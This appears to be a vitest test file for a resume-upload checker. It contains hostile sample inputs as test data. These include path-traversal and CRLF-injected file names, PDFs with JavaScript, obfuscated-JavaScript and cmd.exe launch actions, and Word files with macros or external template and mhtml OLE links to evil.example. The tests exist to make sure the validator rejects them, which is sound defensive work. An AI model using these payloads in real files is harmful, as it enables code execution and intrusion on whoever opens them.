import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { makeDocx, makePdf, makePhoto } from '#tests/factories/uploads.ts'
import { checkResume } from './resume-file.ts'

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'resume-test-'))
})
afterAll(() => rm(folder, { recursive: true }))

async function check(content: Buffer, name = 'resume.pdf') {
  const path = join(folder, 'file')
  await writeFile(path, content)
  return checkResume({ path, name, bytes: content.length })
}

const withWords = (words: string) => Buffer.concat([makePdf(), Buffer.from(words)])

it.each([
  ['resume.pdf', 'resume.pdf'],
  ['Résumé of Jo', 'Résumé of Jo.pdf'],
  ['resume.pdf.exe', 'resume.pdf.pdf'],
  ['../../etc/passwd', '....etcpasswd.pdf'],
  ['a\r\nx-header: 1.pdf', 'ax-header: 1.pdf'],
  ['', 'resume.pdf'],
])('saves %j as %j', async (given, name) => {
  expect(await check(makePdf(), given)).toMatchObject({ name, type: 'application/pdf' })
})

it('takes a Word document by its content', async () => {
  expect(await check(await makeDocx(), 'resume.pdf')).toMatchObject({ name: 'resume.docx' })
})

const notAResume = 'Choose a PDF or a Word document (.docx).'
const pdfWith = (what: string) => `This PDF contains ${what}. Print it to a new PDF and send that one.`

it.each<[string, () => Buffer | Promise<Buffer>, string]>([
  ['a program', () => Buffer.from('MZ\u0090\0 program'), notAResume],
  ['a web page', () => Buffer.from('<html><script>alert(1)</script></html>'), notAResume],
  ['a drawing with a script', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'), notAResume],
  ['a photo', () => makePhoto(20, 20), notAResume],
  ['any other archive', () => makeDocx({ 'readme.txt': 'Hello' }, ''), notAResume],
  ['a PDF that runs a script', () => withWords('<< /S /JavaScript /JS (app.alert(1)) >>'), pdfWith('a script')],
  ['one that hides it', () => withWords('<< /S /J#61va#53cript >>'), pdfWith('a script')],
  ['a PDF that starts a program', () => withWords('<< /S /Launch /F (cmd.exe) >>'), pdfWith('a link that starts a program')],
  ['a PDF with another file inside', () => withWords('<< /Names << /EmbeddedFiles 3 0 R >> >>'), pdfWith('another file')],
  [
    'a Word document with macros',
    () => makeDocx({ 'word/vbaProject.bin': 'macro' }),
    'This document contains a macro or another file. Save it as a PDF and send that one.',
  ],
])('refuses %s', async (_what, make, message) => {
  await expect(check(await make())).rejects.toMatchObject({ status: 400, issues: [{ path: 'resume', message }] })
})

const relationship = (type: string, target: string, more = 'TargetMode="External"') =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${more}/></Relationships>`

it.each([
  ['a template with macros', relationship('attachedTemplate', 'https://evil.example/a.dotm')],
  ['a linked object', relationship('oleObject', 'mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html')],
  ['a picture', relationship('image', 'http://evil.example/pixel.png', "TargetMode = 'External'")],
  ['a shared folder', relationship('attachedTemplate', 'file://evil.example/share/a.dotm')],
  ['what hides it', relationship('oleObject', 'http://evil.example', 'TargetMode="&#69;xternal"')],
])('refuses a Word document that loads %s from elsewhere', async (_what, rels) => {
  const document = await makeDocx({ 'word/_rels/settings.xml.rels': rels })
  const message = 'This document loads something from elsewhere when it is opened. Save it as a PDF and send that one.'
  await expect(check(document)).rejects.toMatchObject({ status: 400, issues: [{ path: 'resume', message }] })
})

it.each([
  relationship('hyperlink', 'https://jo.example/?a=1&amp;b=2'),
  relationship('attachedTemplate', 'file:///C:\\Users\\Jo\\Normal.dotm'),
  relationship('image', 'media/image1.png', ''),
])('takes one with links to click, or a template of the writer’s own', async (rels) => {
  expect(await check(await makeDocx({ 'word/_rels/document.xml.rels': rels }))).toMatchObject({ name: 'resume.docx' })
})

it('refuses a large file without reading it', async () => {
  await expect(checkResume({ path: '/nowhere', name: 'resume.pdf', bytes: 5 * 1024 * 1024 + 1 })).rejects.toMatchObject({
    message: 'This file is too large. The limit is 5 MB.',
  })
})
